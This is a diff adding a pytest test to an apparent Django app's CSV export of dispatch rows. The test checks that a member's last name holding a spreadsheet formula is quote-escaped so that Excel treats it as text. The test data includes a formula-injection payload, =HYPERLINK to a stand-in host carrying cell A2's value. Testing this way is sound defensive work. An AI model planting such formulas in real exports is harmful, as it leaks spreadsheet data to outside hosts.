@@ -208,6 +208,19 @@ def test_the_page_takes_a_day_and_offers_the_rows_as_csv(night, as_dispatcher):
     assert {r["run_on"] for r in rows} == {"2026-11-30"}
 
 
+def test_a_name_a_spreadsheet_would_evaluate_is_text_in_the_csv(night, as_dispatcher):
+    """Issue 20, finding 2: the CSV a dispatcher opens in Excel runs no member's formula."""
+    formula = '=HYPERLINK("http://x/?"&A2,"x")'
+    night["missed"].member.__class__.objects.filter(pk=night["missed"].member_id).update(last_name=formula)
+    with time_machine.travel(at(FRIDAY, 10), tick=False):
+        response = as_dispatcher.get(PAGE, {"day": "2026-11-30", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    names = [r["member"] for r in rows if int(r["registration_id"]) == night["missed"].pk]
+    assert names
+    assert all(name.startswith("'" + formula) for name in names), names
+    assert all(r["apn"][0].isdigit() for r in rows), "the APNs stay numbers"
+
+
 @pytest.mark.parametrize(
     ("day", "says"),
     [("2026-02-30", "Enter a valid date"), ("9999-12-31", "within a year of today"), ("2026-11-28", "No run")],
